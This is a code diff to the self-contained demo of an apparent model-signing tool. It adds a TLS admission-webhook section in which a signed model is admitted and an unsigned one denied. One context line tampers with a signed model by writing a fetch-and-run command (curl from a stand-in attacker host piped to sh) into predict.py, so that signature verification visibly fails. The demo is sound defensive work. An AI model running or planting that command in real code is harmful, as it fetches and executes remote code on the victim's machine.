@@ -1,16 +1,27 @@
-"""The self-contained demo (`modelsign demo`): embedded defaults, no network, no cluster.
+"""The self-contained demo (`modelsign demo`): embedded defaults, no cluster, no internet.
 
-It runs the real CLI in-process against a local OCI layout and a model directory, and
-checks every outcome it claims: the demo exits non-zero if any step behaves otherwise.
+Part 1 runs the real CLI in-process against a local OCI layout and a model directory.
+Part 2 starts the real admission webhook over TLS (certificates from `modelsign certs`),
+with a registry host served from local OCI layouts, and submits AdmissionReviews for an
+InferenceService whose kit:// model is signed (admitted) and one whose model is not
+(denied, message shown). Every outcome is checked: the demo exits 1 if any step differs.
 """
 
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import shlex
+import socket
+import ssl
+import subprocess
+import sys
 import tempfile
+import time
 from pathlib import Path
+
+import httpx
 
 from signer.kitpack import pack_modelkit
 from signer.oci.layout import LayoutRepository
@@ -68,6 +79,11 @@ def run_demo(workdir: Path | None) -> int:
 
 
 def _demo(base: Path) -> None:
+    _signing_demo(base)
+    _admission_demo(base)
+
+
+def _signing_demo(base: Path) -> None:
     store = base / "store"
     os.chdir(base)
     _step("1. Key pairs (cosign's encrypted key format; password from MODELSIGN_PASSWORD)")
@@ -109,3 +125,96 @@ def _demo(base: Path) -> None:
     _run(["verify", "./my-model", "--key", "ml-team.pub", "--signature", "./my-model.sig"], 0)
     (model_dir / "code" / "predict.py").write_text("import os\nos.system('curl evil.example | sh')\n")
     _run(["verify", "./my-model", "--key", "ml-team.pub"], 1)
+
+
+DEMO_REGISTRY = "registry.demo.local"
+
+
+def _free_port() -> int:
+    with contextlib.closing(socket.socket()) as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def _isvc(name: str, model: str) -> dict:
+    return {
+        "apiVersion": "serving.kserve.io/v1beta1", "kind": "InferenceService", "metadata": {"name": name, "namespace": "ml-prod"},
+        "spec": {"predictor": {"model": {"modelFormat": {"name": "huggingface"}, "storageUri": model}}},
+    }
+
+
+def _review(obj: dict, uid: str) -> dict:
+    return {
+        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+        "request": {"uid": uid, "kind": {"group": "serving.kserve.io", "version": "v1beta1", "kind": "InferenceService"},
+                    "operation": "CREATE", "namespace": "ml-prod", "name": obj["metadata"]["name"], "object": obj,
+                    "userInfo": {"username": "demo-user"}},
+    }
+
+
+def _start_webhook(base: Path, policy: Path) -> tuple[subprocess.Popen, str, Path]:
+    port = _free_port()
+    log = base / "webhook.log"
+    command = [sys.executable, "-m", "webhook.cli", "webhook", "serve", "--config", str(policy), "--tls-cert", str(base / "certs" / "tls.crt"),
+               "--tls-key", str(base / "certs" / "tls.key"), "--host", "127.0.0.1", "--port", str(port), "--workers", "1"]
+    print(f"\n$ modelsign {shlex.join(command[3:])}   (in the background; logs in {log})", flush=True)
+    process = subprocess.Popen(command, stdout=log.open("wb"), stderr=subprocess.STDOUT)
+    url = f"https://127.0.0.1:{port}"
+    context = ssl.create_default_context(cafile=str(base / "certs" / "ca.crt"))
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        if process.poll() is not None:
+            raise DemoFailure(f"the webhook exited: {log.read_text()[-2000:]}")
+        with contextlib.suppress(httpx.HTTPError):
+            if httpx.get(f"{url}/readyz", verify=context, timeout=2).status_code == 200:
+                return process, url, base / "certs" / "ca.crt"
+        time.sleep(0.2)
+    process.terminate()
+    raise DemoFailure("the webhook did not become ready within 30 s")
+
+
+def _admission_demo(base: Path) -> None:
+    _step("7. A model registry served from local OCI layouts: one signed ModelKit, one unsigned")
+    registry = base / "registry"
+    for name, signed in (("llm", True), ("rogue", False)):
+        repository = LayoutRepository(registry / "models" / name, create=True)
+        context = base / f"{name}-src"
+        _write_model(context, os.urandom(128 * 1024))
+        kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
+        print(f"kit://{DEMO_REGISTRY}/models/{name}:1.0 -> {kit.digest}{'' if signed else ' (unsigned)'}")
+        if signed:
+            _run(["sign", f"oci:{registry}/models/{name}:1.0", "--key", "ml-team.key"], 0)
+
+    _step("8. TLS material and the admission policy")
+    _run(["certs", "generate", "--service", "modelsign-webhook", "--namespace", "modelsign-system", "--out", str(base / "certs"), "--san", "127.0.0.1", "--force"], 0)
+    policy = base / "policy.yaml"
+    policy.write_text(
+        "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo}\nmode: enforce\n"
+        f"allowedRegistries: [{DEMO_REGISTRY}]\nlocalRegistries: {{{DEMO_REGISTRY}: registry}}\n"
+        "trustedKeys:\n  ml-team: {file: ml-team.pub}\n"
+        "rules:\n  - name: models-signed\n    artifacts: ['**']\n    require: {signedBy: [ml-team]}\n"
+    )
+    print(policy.read_text())
+
+    _step("9. The webhook over TLS; AdmissionReviews for a signed and an unsigned model")
+    process, url, ca = _start_webhook(base, policy)
+    try:
+        context = ssl.create_default_context(cafile=str(ca))
+        with httpx.Client(base_url=url, verify=context, timeout=30) as client:
+            for uid, (name, expected) in enumerate((("llm", True), ("rogue", False))):
+                obj = _isvc(f"{name}-isvc", f"kit://{DEMO_REGISTRY}/models/{name}:1.0")
+                print(f"\nPOST {url}/validate  InferenceService {name}-isvc  storageUri {obj['spec']['predictor']['model']['storageUri']}")
+                answer = client.post("/validate", json=_review(obj, f"demo-{uid}")).json()["response"]
+                print(json.dumps(answer, indent=2))
+                if answer["allowed"] is not expected:
+                    raise DemoFailure(f"{name}: allowed={answer['allowed']}, expected {expected}")
+            print("\nGET /metrics (excerpt)")
+            print("\n".join(line for line in client.get("/metrics").text.splitlines() if line.startswith("modelsign_admission_decisions_total")))
+        manifests = base / "inference.yaml"
+        manifests.write_text("---\n".join(json.dumps(_isvc(f"{n}-isvc", f"kit://{DEMO_REGISTRY}/models/{n}:1.0")) + "\n" for n in ("llm", "rogue")))
+        _step("10. The same decision before `kubectl apply`")
+        _run(["check", "-f", str(manifests), "--config", str(policy)], 1)
+    finally:
+        process.terminate()  # uvicorn shuts down gracefully on SIGTERM
+        process.wait(timeout=15)
+        print("\nwebhook stopped")
